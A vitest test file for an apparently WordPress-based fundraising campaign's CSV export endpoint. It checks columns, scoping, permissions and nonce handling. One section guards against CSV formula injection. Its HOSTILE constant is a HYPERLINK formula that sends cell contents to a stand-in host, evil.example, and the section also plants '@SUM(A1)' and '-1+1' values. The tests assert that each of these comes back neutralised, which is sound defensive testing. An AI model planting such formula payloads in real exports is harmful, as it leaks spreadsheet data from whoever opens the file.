import { beforeAll, describe, expect, it } from 'vitest';
import { Client, hostPerFile } from '../testing/harness.ts';
import { parseCsv } from '../testing/parseCsv.ts';
import { CSV_BOM } from './csv.ts';

const { t, client: admin } = hostPerFile('admin@example.org');
const guest = new Client(t);
const fundraiser = new Client(t);

beforeAll(async () => {
  await guest.page('/');
  await fundraiser.login('captain@example.org');
});

const HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';

interface TeamListRow {
  team_id: string;
  team_name: string;
  approval_status: string;
  team_captains: Array<{ name: string }>;
  team_goal: number;
  amount_raised: number;
  fundraisers_total: number;
  date_created: string;
}

interface FundraiserListRow {
  id: string;
  fundraiser_name: string;
  email: string;
  team: string;
  approval_status: string;
  fundraiser_goal: number;
  amount_raised: number;
  date_created: string;
}

/** Every row of campaign 1 in an admin list call, page by page: the export must agree with what the lists show. */
async function adminList<Row>(name: string): Promise<Row[]> {
  const rows: Row[] = [];
  for (let page = 1; ; page += 1) {
    const res = await admin.api(name, { query: { campaign_id: 1, per_page: 100, page } });
    const body = (await res.json()) as { data: Row[]; pages: number };
    rows.push(...body.data);
    if (page >= body.pages) return rows;
  }
}

/** The lists' ISO times carry milliseconds; the export's stop at the second. */
const toSecond = (iso: string | undefined): string => (iso ?? '').replace(/\.\d{3}Z$/, 'Z');

/** The export as its rows (header first), after checking the download's headers and byte order mark. */
async function exported(type: string, campaignId = 1): Promise<string[][]> {
  const res = await admin.api('export-campaign-csv', { query: { campaignId, type } });
  // Response.text() drops a byte order mark: read the bytes, as a spreadsheet does.
  const bytes = new Uint8Array(await res.arrayBuffer());
  const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes);
  expect(res.status, text.slice(0, 200)).toBe(200);
  expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
  expect(res.headers.get('content-disposition')).toBe(`attachment; filename="campaign-${campaignId}-${type}.csv"`);
  expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  return parseCsv(text.slice(CSV_BOM.length));
}

describe('export-campaign-csv: the columns of each type', () => {
  it('teams: every team of the campaign, agreeing with the admin list (captain, totals, members)', async () => {
    const [header, ...rows] = await exported('teams');
    expect(header).toEqual([
      'ID',
      'Name',
      'Status',
      'Captain',
      'Captain email',
      'Goal',
      'Raised',
      'Members',
      'Created',
    ]);
    const list = await adminList<TeamListRow>('get-teams');
    expect(rows.map((row) => row[0])).toEqual(list.map((team) => team.team_id).sort((a, b) => Number(a) - Number(b)));
    for (const row of rows) {
      const team = list.find((t) => t.team_id === row[0]);
      expect(row).toEqual([
        team?.team_id,
        team?.team_name,
        team?.approval_status,
        team?.team_captains[0]?.name ?? '',
        expect.any(String),
        String(team?.team_goal),
        String(team?.amount_raised),
        String(team?.fundraisers_total),
        toSecond(team?.date_created),
      ]);
    }
    expect(rows[0]?.slice(0, 5)).toEqual(['1', 'Clean Water Crew', 'active', 'Carla Captain', 'captain@example.org']);
  });

  it('fundraisers: email, team (empty for none), totals and the number of donations', async () => {
    const [header, ...rows] = await exported('fundraisers');
    expect(header).toEqual(['ID', 'Name', 'Email', 'Team', 'Status', 'Goal', 'Raised', 'Donations', 'Created']);
    const list = await adminList<FundraiserListRow>('get-team-fundraisers');
    expect(rows).toHaveLength(list.length);
    const donations = t.host.db.prepare(
      'SELECT fundraiser_id AS id, COUNT(*) AS n FROM donations GROUP BY fundraiser_id',
    );
    const counts = new Map((donations.all() as Array<{ id: number; n: number }>).map((r) => [String(r.id), r.n]));
    for (const row of rows) {
      const f = list.find((x) => x.id === row[0]);
      expect(row).toEqual([
        f?.id,
        f?.fundraiser_name,
        f?.email,
        f?.team,
        f?.approval_status,
        String(f?.fundraiser_goal),
        String(f?.amount_raised),
        String(counts.get(row[0] ?? '') ?? 0),
        toSecond(f?.date_created),
      ]);
    }
    expect(rows[0]?.slice(0, 5)).toEqual(['1', 'Carla Captain', 'captain@example.org', 'Clean Water Crew', 'active']);
    expect(rows.find((row) => row[1] === 'Pat Pending')?.slice(3, 5)).toEqual(['', 'pending']);
  });

  it('donations: oldest first, with the team and fundraiser names and the message', async () => {
    const [header, ...rows] = await exported('donations');
    expect(header).toEqual(['ID', 'Date', 'Donor', 'Amount', 'Team', 'Fundraiser', 'Message']);
    expect(rows[0]).toEqual([
      '1',
      '2025-04-02T12:00:00Z',
      'Freya Eriksen',
      '100',
      'Rainy Falls Club',
      'Hiro Tanaka',
      '',
    ]);
    const dates = rows.map((row) => row[1] ?? '');
    expect(dates).toEqual([...dates].sort());
    const all = t.host.db.prepare('SELECT COUNT(*) AS n FROM donations WHERE campaign_id = 1').get() as { n: number };
    expect(rows).toHaveLength(all.n);
  });

  it('another campaign exports only its own rows', async () => {
    const [, ...rows] = await exported('teams', 2);
    const ids = t.host.db.prepare('SELECT id FROM teams WHERE campaign_id = 2 ORDER BY id').all() as Array<{
      id: number;
    }>;
    expect(rows.map((row) => row[0])).toEqual(ids.map((r) => String(r.id)));
  });
});

describe('export-campaign-csv: hostile text stays data', () => {
  const name = `${HOSTILE} "Ana", Lima\nצוות המים`;

  beforeAll(() => {
    const db = t.host.db;
    db.prepare('UPDATE teams SET name = ? WHERE id = 1').run(name);
    db.prepare('UPDATE fundraisers SET name = ? WHERE id = 1').run(name);
    db.prepare('UPDATE donations SET donor_name = ?, message = ? WHERE id = 1').run('@SUM(A1)', '-1+1\r\nתודה, "Ana"');
  });

  it('a name with a formula, quotes, a comma, a newline and Hebrew reads back whole, prefixed with a quote mark', async () => {
    const teams = await exported('teams');
    expect(teams[1]?.[1]).toBe(`'${name}`);
    const fundraisers = await exported('fundraisers');
    expect(fundraisers[1]?.[1]).toBe(`'${name}`);
    expect(fundraisers[1]?.[3]).toBe(`'${name}`);
    const donations = await exported('donations');
    expect(donations[1]).toEqual([
      '1',
      '2025-04-02T12:00:00Z',
      "'@SUM(A1)",
      '100',
      'Rainy Falls Club',
      'Hiro Tanaka',
      `'-1+1\r\nתודה, "Ana"`,
    ]);
  });

  it('no cell of any export starts a formula', async () => {
    for (const type of ['teams', 'fundraisers', 'donations']) {
      const cells = (await exported(type)).flat();
      expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    }
  });
});

describe('export-campaign-csv: who may export, and what', () => {
  it('logged out → 401, a fundraiser → 403', async () => {
    const out = await guest.api('export-campaign-csv', { query: { campaignId: 1, type: 'teams' } });
    expect(out.status).toBe(401);
    const res = await fundraiser.api('export-campaign-csv', { query: { campaignId: 1, type: 'teams' } });
    expect(res.status).toBe(403);
    expect(((await res.json()) as { code: string }).code).toBe('rest_forbidden');
  });

  it.each(['', 'users', 'Teams', 'donations,teams'])('type %j → 400 invalid_type', async (type) => {
    const res = await admin.api('export-campaign-csv', { query: { campaignId: 1, type } });
    expect(res.status).toBe(400);
    const body = (await res.json()) as { code: string; message: string };
    expect(body.code).toBe('invalid_type');
    expect(body.message).toBe('Choose what to export: teams, fundraisers or donations.');
  });

  it('an unknown campaign → 404 unknown_campaign', async () => {
    const res = await admin.api('export-campaign-csv', { query: { campaignId: 999, type: 'teams' } });
    expect(res.status).toBe(404);
    expect(((await res.json()) as { code: string }).code).toBe('unknown_campaign');
  });

  it('the nonce may come as _wpnonce in the query (a download link sends no header); a wrong one is refused', async () => {
    const good = await admin.api('export-campaign-csv', {
      nonce: null,
      query: { campaignId: 1, type: 'fundraisers', _wpnonce: admin.nonce },
    });
    expect(good.status).toBe(200);
    expect(good.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    const bad = await admin.api('export-campaign-csv', {
      nonce: null,
      query: { campaignId: 1, type: 'fundraisers', _wpnonce: `${admin.nonce}x` },
    });
    expect(bad.status).toBe(403);
    expect(((await bad.json()) as { code: string }).code).toBe('rest_cookie_invalid_nonce');
  });
});
